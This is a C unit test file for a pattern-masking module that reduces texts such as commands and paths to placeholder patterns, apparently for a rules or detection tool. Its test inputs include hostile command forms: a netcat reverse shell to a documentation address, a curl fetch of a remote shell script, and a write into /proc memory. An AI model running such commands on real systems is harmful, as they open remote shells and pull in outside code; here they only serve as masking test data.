// SPDX-License-Identifier: GPL-2.0-or-later
/* Texts that differ only in what varies are one pattern. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "rules/base.h"
#include "rules/pattern.h"

static struct pattern masked(const char *text)
{
	struct pattern pattern;

	pattern_init(&pattern);
	pattern_add_masked(&pattern, text, strlen(text));
	return pattern;
}

static void assert_masked(const char *text, const char *expected)
{
	struct pattern pattern = masked(text);
	char found[PATTERN_MAX + 1] = "";

	memcpy(found, pattern.text, pattern.len);
	assert_string_equal(found, expected);
}

static void what_varies_is_left_out(void **state)
{
	static const char *const cases[][2] = {
		{"", ""},
		{"/bin/sh -c id", "/bin/sh -c id"},
		{"kill -9 4711", "kill -<n> <n>"},
		{"/usr/bin/python3.11", "/usr/bin/python<n>.<n>"},
		{"ping 192.0.2.17", "ping <ip>"},
		{"curl http://192.0.2.17:8080/a", "curl http://<ip>:<n>/a"},
		{"nc 2001:db8::1 443", "nc <ip> <n>"},
		{"[::1]:22", "[<ip>]:<n>"},
		{"at 12:30:59", "at <n>:<n>:<n>"},
		{"1.2.3", "<n>.<n>.<n>"},
		{"1.2.3.4.5", "<ip>.<n>"},
		{"886313e1-3b8a-5372-9b90-0c9aee199e5d.lock", "<uuid>.lock"},
		{"0xDEADbeef", "<hex>"},
		{"/proc/0xg", "/proc/<n>xg"},
		{"deadbeef", "deadbeef"},
		{"dead1234beef", "<hex>"},
		{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4", "<hex>"},
		{"/tmp/tmp.aKq3ZxYb91", "/tmp/<tmp>"},
		{"/tmp/tmpqzkwrtyx", "/tmp/<tmp>"},
		{"/tmp/file", "/tmp/file"},
		{"/var/x7Gp2Q", "/var/<tmp>"},
		{"HelloWorldAgain", "HelloWorldAgain"},
		{"tmpfs", "tmpfs"},
		{"a\xff\x01 7", "a\xff\x01 <n>"},
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		assert_masked(cases[i][0], cases[i][1]);
}

static void the_same_pattern_has_the_same_id(void **state)
{
	struct pattern one = masked("kill 17"), other = masked("kill 4711");

	(void)state;
	assert_int_equal(one.id, other.id);
	other = masked("kill -17");
	assert_int_not_equal(one.id, other.id);
}

static void ids_are_the_same_on_every_host(void **state)
{
	struct pattern pattern;

	(void)state;
	pattern_init(&pattern);
	pattern_add(&pattern, "foobar", 6);
	/* the vector of FNV-1a, 64 bits */
	assert_int_equal(pattern.id, 0x85944171f73967e8ull);
}

static void ten_thousand_texts_are_three_patterns(void **state)
{
	static const char *const forms[] = {
		"/bin/sh -c cat /tmp/tmp.%08xQz >/proc/%u/mem",
		"curl -s http://192.0.2.%u/%u.sh",
		"/usr/bin/nc -e /bin/sh 198.51.100.%u %u",
	};
	uint64_t ids[ARRAY_LEN(forms) + 1];
	size_t count = 0;

	(void)state;
	for (unsigned int i = 0; i < 10000; i++) {
		char text[128];
		struct pattern pattern;
		size_t at = 0;

		(void)snprintf(text, sizeof(text), forms[i % ARRAY_LEN(forms)],
			       i * 2654435761u % (i % 3 ? 255 : 4294967295u),
			       i);
		pattern = masked(text);
		while (at < count && ids[at] != pattern.id)
			at++;
		if (at < count)
			continue;
		assert_true(count < ARRAY_LEN(forms));
		ids[count++] = pattern.id;
	}
	assert_int_equal(count, ARRAY_LEN(forms));
}

static void a_long_text_is_looked_at_as_far_as_there_is_room(void **state)
{
	static char text[4 * PATTERN_MAX];
	struct pattern pattern;

	(void)state;
	memset(text, '(', sizeof(text));
	pattern_init(&pattern);
	pattern_add_masked(&pattern, text, sizeof(text));
	assert_int_equal(pattern.len, PATTERN_MAX);
	memset(text, '7', sizeof(text));
	pattern_init(&pattern);
	pattern_add_masked(&pattern, text, sizeof(text));
	assert_int_equal(pattern.len, 3);
}

/* Bytes of no meaning, at the very end of memory that may be read. */
static void any_bytes_will_do(void **state)
{
	static const char bytes[] = "09afAF:.-_/x \xfft\0p";
	uint32_t random = 1;

	(void)state;
	for (int round = 0; round < 20000; round++) {
		size_t len = random % 48;
		CLEANUP(freep) char *text = malloc(len ? len : 1);
		struct pattern pattern, again;

		assert_non_null(text);
		for (size_t i = 0; i < len; i++) {
			random = random * 1664525u + 1013904223u;
			text[i] = bytes[(random >> 16) % sizeof(bytes)];
		}
		random = random * 1664525u + 1013904223u;
		pattern_init(&pattern);
		pattern_add_masked(&pattern, text, len);
		pattern_init(&again);
		pattern_add(&again, pattern.text, pattern.len);
		assert_int_equal(pattern.id, again.id);
		assert_true(len == 0 || pattern.len > 0);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_varies_is_left_out),
		cmocka_unit_test(the_same_pattern_has_the_same_id),
		cmocka_unit_test(ids_are_the_same_on_every_host),
		cmocka_unit_test(ten_thousand_texts_are_three_patterns),
		cmocka_unit_test(
			a_long_text_is_looked_at_as_far_as_there_is_room),
		cmocka_unit_test(any_bytes_will_do),
	};

	return cmocka_run_group_tests_name("pattern", tests, NULL, NULL);
}
